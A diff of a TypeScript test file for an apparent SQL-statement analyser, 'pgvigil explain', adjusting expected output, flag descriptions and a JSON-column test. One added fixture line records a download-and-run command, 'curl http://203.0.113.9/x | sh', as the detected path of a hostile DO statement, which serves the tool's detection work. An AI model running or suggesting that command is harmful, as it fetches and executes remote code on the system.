@@ -22,7 +22,7 @@ async function explained(sql: string): Promise<string> {
   assert.equal(exitCode, 0, stderr);
   assert.equal(stderr, '');
   assert.match(stdout, /^statement_hash {8}[0-9a-f]{32}$/m);
-  return stdout.replace(/^(?:statement_hash|fingerprint) .*\n/gm, '');
+  return stdout.replace(/^(?:statement_hash|template_id|fingerprint) .*\n/gm, '');
 }
 
 /** `pgvigil explain` with this text on its standard input. */
@@ -63,6 +63,7 @@ parse_ok              true
 kinds                 DoStmt
 hosts                 203.0.113.9
 language              plpgsql
+path                  curl http://203.0.113.9/x | sh
 statement_count       1
 
 flags
@@ -123,8 +124,8 @@ drop_count            2
 flags
   delete              DELETE.
   dml_no_where        DELETE or UPDATE of every row.
-  drop_data           Drops or empties tables, schemas or databases.
-  stacked             More than one statement in the string, transaction control and SET not counted.
+  drop_data           Drops or empties tables, schemas or databases; tables in pg_temp are not counted.
+  stacked             Another statement follows a query or a change of data. Transaction control, SET and clean-up are not counted; scripts that begin with DDL are not meant.
 `,
   );
 });
@@ -218,12 +219,10 @@ test('JSON holds what the store holds of the same statement, under the names of 
   assert.deepEqual(JSON.parse(stored.stdout), [shown]);
 });
 
-test('every column that the views take from a statement is in the JSON', async () => {
-  const names = new Set<string>();
-  for (const view of ['03-activity', '04-statements']) {
-    const text = await readFile(packagePath(`queries/views/${view}.sql`), 'utf8');
-    for (const [, name] of text.matchAll(/^ {2}t\.(\w+),?$/gm)) names.add(name!);
-  }
+test('every column that the view activity takes from a statement is in the JSON', async () => {
+  const names = new Set(['statement_hash']);
+  const text = await readFile(packagePath('queries/views/03-activity.sql'), 'utf8');
+  for (const [, name] of text.matchAll(/^ {2}[tm]\.(\w+),?$/gm)) names.add(name!);
   assert.deepEqual(Object.keys(JSON.parse(await json('SELECT 1'))).sort(), [...names].sort());
 });
 
